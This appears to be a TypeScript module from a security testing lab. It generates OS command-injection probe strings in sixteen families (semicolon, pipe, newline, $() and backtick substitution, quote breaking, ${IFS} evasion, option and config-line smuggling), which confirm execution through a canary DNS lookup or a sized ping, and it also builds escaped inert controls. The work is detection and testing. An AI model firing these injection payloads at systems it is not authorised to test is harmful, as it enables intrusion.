import { randomInt } from 'node:crypto';
import type { EchoSize } from './icmp/echo-sizes.ts';

/** A way in which a value can become more than a value: for a shell, for a program's arguments, or in a configuration file. */
export type InjectionFamily =
  | 'separator-semicolon'
  | 'separator-ampersand'
  | 'separator-pipe'
  | 'separator-line-feed'
  | 'substitution-arithmetic'
  | 'substitution-parenthesis'
  | 'substitution-back-quote'
  | 'quote-single'
  | 'quote-double'
  | 'blank-tab'
  | 'blank-field-separator'
  | 'argument-dash'
  | 'argument-tab'
  | 'argument-line-feed'
  | 'line-statement'
  | 'line-assignment';

interface Carrier {
  readonly carry: (look: string, label: string) => string;
  /** The same without what makes it work; characters that mean something to a shell are escaped when absent. */
  readonly twin?: (value: string) => string;
  /** Nothing computes here: the label stands in the value, behind what a host name cannot hold. */
  readonly isPlain?: true;
}

const withoutDash = (value: string): string => value.slice(1);
const inOneLine = (value: string): string => value.replaceAll('\n', ' ');

const carriers: Readonly<Record<InjectionFamily, Carrier>> = {
  'separator-semicolon': { carry: (look) => `127.0.0.1;${look};` },
  'separator-ampersand': { carry: (look) => `127.0.0.1&${look}` },
  'separator-pipe': { carry: (look) => `127.0.0.1|${look}` },
  'separator-line-feed': { carry: (look) => `127.0.0.1\n${look}\n` },
  'substitution-arithmetic': { carry: (_look, label) => label },
  'substitution-parenthesis': { carry: (look) => `$(${look})` },
  'substitution-back-quote': { carry: (look) => `\`${look}\`` },
  'quote-single': { carry: (look) => `';${look};'` },
  'quote-double': { carry: (look) => `";${look};"` },
  'blank-tab': { carry: (look) => `127.0.0.1;${look.replaceAll(' ', '\t')};` },
  'blank-field-separator': { carry: (look) => `127.0.0.1;${look.replaceAll(' ', '${IFS}')};` },
  // Ping, traceroute, wget, curl and ssh all know -4, and it does no harm. Without the dash, 4 is the host and the label a word too many.
  'argument-dash': { carry: (_look, label) => `-4 ${label}`, twin: withoutDash, isPlain: true },
  // Filters for blanks mostly know the space alone.
  'argument-tab': { carry: (_look, label) => `-4\t${label}`, twin: withoutDash, isPlain: true },
  'argument-line-feed': { carry: (_look, label) => `-4\n${label}`, twin: withoutDash, isPlain: true },
  // What the files of time servers, name servers and loggers have for a host; in one line it is the rest of an odd text.
  'line-statement': { carry: (_look, label) => `127.0.0.1\nserver ${label}\n`, twin: inOneLine, isPlain: true },
  'line-assignment': { carry: (_look, label) => `127.0.0.1\nserver=${label}\n`, twin: inOneLine, isPlain: true },
};

/** Every family, the ones that catch most first. */
export const injectionFamilies: readonly InjectionFamily[] = Object.keys(carriers) as InjectionFamily[];

/** A value, and the name that is looked up only when something took the value apart. */
export interface InjectionText {
  readonly family: InjectionFamily;
  /** At most 64 characters for zones of up to 12: what a name of a time server may have. */
  readonly value: string;
  /** Never stands in `value` by itself: it holds a product that has to be computed, or comes after an option of a program. */
  readonly computedName: string;
  /** Whether `computedName` has to be computed; false where it stands in the value, behind what takes the value apart, and where chance might hit it. */
  readonly isComputed: boolean;
  /** Set where nothing in the value works. */
  readonly isTwin?: true;
}

/** The zones of a canary: one for usual values, one for values that have to fit into 32 characters, such as an SSID. */
export interface CanaryZones {
  readonly zone: string;
  readonly shortZone: string;
}

/** `short` values have a short label in the short zone, and nothing in front of what works. */
export type InjectionTextLength = 'usual' | 'short';

/** Most characters that a value of this family has. */
export function injectionTextCharsMax(
  family: InjectionFamily,
  zones: CanaryZones,
  length: InjectionTextLength,
): number {
  const factors = length === 'short' ? { a: 99, b: 99, mark: 'aa' } : { a: 999, b: 999, mark: 'a9999t' };
  return textOf(family, { zones, length, factors }).value.length;
}

/**
 * Builds a value whose only effect, in a shell, is one look-up in the lab's zone. The label holds the product of two random numbers, so
 * that a resolver which looks up whatever it is given, with or without the odd characters, never asks for `computedName`. In
 * families of arguments, where nothing computes, it is the second word of a value that begins with an option; in the families of lines, it stands in
 * a line of its own.
 */
export function injectionText(
  family: InjectionFamily,
  zones: CanaryZones,
  length: InjectionTextLength = 'usual',
): InjectionText {
  return textOf(family, { zones, length, factors: factorsOf(length) });
}

/** The same with each character that does the work escaped, or taken away: its computed name stays silent. */
export function inertTwin(
  family: InjectionFamily,
  zones: CanaryZones,
  length: InjectionTextLength = 'usual',
): InjectionText {
  const text = injectionText(family, zones, length);
  return { ...text, isTwin: true, value: (carriers[family].twin ?? escaped)(text.value) };
}

const escaped = (value: string): string => value.replaceAll(/[$`;&|()'"*\n]/g, '\\$&');

/** Families in which a shell runs a command: what it does can be an echo request as well as a look-up. */
export const commandFamilies: readonly InjectionFamily[] = injectionFamilies.filter(
  (family) => carriers[family].isPlain !== true && family !== 'substitution-arithmetic',
);

/** Most characters that a value with an echo request to this address has. */
export const echoTextCharsMax = (family: InjectionFamily, address: string, length: InjectionTextLength): number =>
  echoText(family, { address, size: { a: 99, b: 99, name: '' }, length }).value.length;

/** What an echo request is made from. */
export interface EchoTextParts {
  readonly address: string;
  readonly size: Pick<EchoSize, 'a' | 'b' | 'name'>;
  readonly length?: InjectionTextLength;
}

/**
 * Builds a value whose only effect, in a shell, is one echo request to an address of the bench: its size is the product of two numbers. For targets
 * that look nothing up. Only for {@link commandFamilies}. A few hundred sizes are not so many that none comes by chance: `isComputed` is false.
 */
export function echoText(family: InjectionFamily, { address, size, length = 'usual' }: EchoTextParts): InjectionText {
  // Options that ping of busybox, iputils and toybox have in common.
  const value = carriers[family].carry(`ping -c1 -s$((${size.a}*${size.b})) ${address}`, '');
  return { family, value: fitted(value, length), computedName: size.name, isComputed: false };
}

/** The same with each character that does the work escaped: nothing is sent. */
export function inertEchoTwin(family: InjectionFamily, parts: EchoTextParts): InjectionText {
  const text = echoText(family, parts);
  return { ...text, isTwin: true, value: escaped(text.value) };
}

/** Without anything in front of what works where a value has to be short. */
const fitted = (value: string, length: InjectionTextLength): string =>
  length === 'short' ? value.replace(/^127\.0\.0\.1/, '') : value;

interface Factors {
  readonly a: number;
  readonly b: number;
  readonly mark: string;
}

interface TextParts {
  readonly zones: CanaryZones;
  readonly length: InjectionTextLength;
  readonly factors: Factors;
}

function textOf(family: InjectionFamily, { zones, length, factors: { a, b, mark } }: TextParts): InjectionText {
  const { carry, isPlain = false } = carriers[family];
  const end = length === 'short' ? `.${zones.shortZone}` : `x.${zones.zone}`;
  const computedName = `${mark}${a * b}${end}`;
  const label = isPlain ? computedName : `${mark}$((${a}*${b}))${end}`;
  const value = carry(`nslookup ${label}`, label);
  return {
    family,
    value: fitted(value, length),
    computedName,
    isComputed: !isPlain,
  };
}

const letter = (): string => String.fromCharCode(0x61 + randomInt(26));

function factorsOf(length: InjectionTextLength): Factors {
  // Two digits times two: the product is never what stands there without the odd characters, a * 100 + b.
  if (length === 'short') return { a: randomInt(11, 99), b: randomInt(11, 99), mark: letter() + letter() };
  return { a: randomInt(101, 999), b: randomInt(101, 999), mark: `${letter()}${randomInt(1_000, 9_999)}t` };
}
